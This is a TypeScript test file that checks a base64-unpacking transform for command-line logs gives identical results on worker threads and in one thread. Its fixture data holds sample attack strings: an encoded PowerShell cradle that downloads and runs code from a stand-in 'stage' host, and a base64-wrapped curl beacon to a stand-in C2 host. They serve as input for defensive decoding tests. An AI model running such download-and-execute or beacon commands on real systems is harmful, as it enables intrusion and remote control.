/**
 * base64.unpackDf on worker threads: the same records as in one thread
 * (text, UTF-16LE, gzip, zip, nested, undecodable runs, limits hit), rows in
 * order, bytes back as Buffers, small inputs in-thread. The split is made
 * deterministic with `poolTestHooks`.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { gzipSync, strToU8, zipSync } from "fflate";
import pl from "nodejs-polars";
import { base64, BASE64_PARALLEL_DEFAULTS } from "../../src/transform/base64Unpack";
import { poolTestHooks, stopWorkers, warmUpWorkers, workerStats } from "../../src/transform/workers/pool";
import { seededRandom } from "../helpers/random";

const b64 = (data: Uint8Array | string) => Buffer.from(typeof data === "string" ? Buffer.from(data) : data).toString("base64");

/** Cells with base64 of every kind the unpacker handles, between plain ones. */
function cells(n: number, seed: number): (string | null)[] {
  const r = seededRandom(seed);
  const payloads = [
    (i: number) => `powershell -enc ${Buffer.from(`IEX (iwr http://stage${i}.example.com/p)`, "utf16le").toString("base64")}`,
    (i: number) => `echo ${b64(`curl http://c2-${i}.example.net/beacon?id=${i}`)} | base64 -d`,
    (i: number) => `x=${b64(gzipSync(strToU8(`gzip payload number ${i} with some text`)))}`,
    (i: number) => `zip ${b64(zipSync({ "a.txt": strToU8(`member a ${i}`), "b.bin": new Uint8Array([0x4d, 0x5a, i & 255, 0, 1, 2]) }))}`,
    (i: number) => `nested ${b64(`inner ${b64(`innermost text number ${i} here`)}`)}`,
    () => "undecodable AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA!",
    (i: number) => `repeat ${b64(`same run ${i % 3} repeated here`)} and ${b64(`same run ${i % 3} repeated here`)}`,
    (i: number) => `binary ${b64(new Uint8Array(Array.from({ length: 48 }, (_, k) => (k * 37 + i) & 255)))}`,
  ];
  return Array.from({ length: n }, (_, i) => {
    const x = r();
    if (x < 0.05) return null;
    if (x < 0.4) return `cmd.exe /c dir C:\\Users\\${i}`;
    return payloads[Math.floor(r() * payloads.length)](i);
  });
}

/** Records without the bytes (a list column), plus the bytes as hex for comparison. */
function comparable(df: pl.DataFrame): unknown[] {
  const bytes = (df.getColumn("input_bytes").toArray() as unknown as ArrayLike<number>[]).map((b) => Buffer.from(Array.from(b)).toString("hex"));
  return df.drop("input_bytes").toRecords().map((rec, i) => ({ ...rec, bytes: bytes[i] }));
}

const split = { workers: 1, minRows: 0, chunkRows: 5 };

before(async () => {
  assert.equal(await warmUpWorkers(1), true);
  poolTestHooks.callerClaims = false;
});

after(async () => {
  poolTestHooks.callerClaims = true;
  await stopWorkers();
});

test("parallel unpackDf: every kind of payload, the in-thread records row for row", () => {
  for (const seed of [1, 2]) {
    const df = pl.DataFrame({ CommandLine: cells(300, seed), Id: Array.from({ length: 300 }, (_, i) => i * 10) });
    const before = workerStats.workerChunks;
    const a = base64.unpackDf(df, { column: "CommandLine", parallel: { workers: 0 } });
    const b = base64.unpackDf(df, { column: "CommandLine", parallel: split });
    assert.ok(workerStats.workerChunks - before >= 20, "the worker decoded the chunks after the first");
    assert.ok(a.height > 150, `seed ${seed}: ${a.height} items`);
    assert.deepEqual(b.columns, a.columns);
    assert.deepEqual(comparable(b), comparable(a), `seed ${seed}`);
    const src = b.getColumn("src_index").toArray() as unknown as number[];
    for (let i = 1; i < src.length; i++) assert.ok(src[i - 1] <= src[i], "rows in input order");
    // indexColumn and limits travel too.
    const opts = { column: "CommandLine", indexColumn: "Id", maxDepth: 1, maxFragments: 1 };
    assert.deepEqual(comparable(base64.unpackDf(df, { ...opts, parallel: split })), comparable(base64.unpackDf(df, { ...opts, parallel: { workers: 0 } })));
  }
});

test("parallel unpackDf: under 2,000 screened rows in this thread, from there on the workers", () => {
  const screened = (df: pl.DataFrame) => df.getColumn("CommandLine").str.contains("[A-Za-z0-9+/\\r\\n]{30,}").argTrue().length;
  const small = pl.DataFrame({ CommandLine: cells(2500, 3) });
  assert.ok(screened(small) > 1000 && screened(small) < 2000, `${screened(small)} screened rows`);
  let before = workerStats.jobs;
  assert.ok(base64.unpackDf(small, { column: "CommandLine" }).height > 0);
  assert.equal(workerStats.jobs, before, "one thread");
  if (BASE64_PARALLEL_DEFAULTS.workers === 0) return; // a one-core machine: no workers by default
  const big = pl.DataFrame({ CommandLine: cells(4000, 4) });
  assert.ok(screened(big) >= 2000, `${screened(big)} screened rows`);
  before = workerStats.jobs;
  assert.ok(base64.unpackDf(big, { column: "CommandLine" }).height > 0);
  assert.equal(workerStats.jobs, before + 1, "a job for the workers");
});

test("parallel unpackDf: big chunks (one Arrow IPC batch each) give the records small chunks give", () => {
  const df = pl.DataFrame({ CommandLine: cells(9000, 4) });
  const one = base64.unpackDf(df, { column: "CommandLine", parallel: { workers: 0 } }); // one chunk of every item
  assert.ok(one.height >= 5000, `${one.height} items`);
  const small = base64.unpackDf(df, { column: "CommandLine", parallel: { workers: 1, minRows: 0, chunkRows: 700 } });
  assert.deepEqual(small.schema, one.schema);
  assert.deepEqual(comparable(small), comparable(one));
});
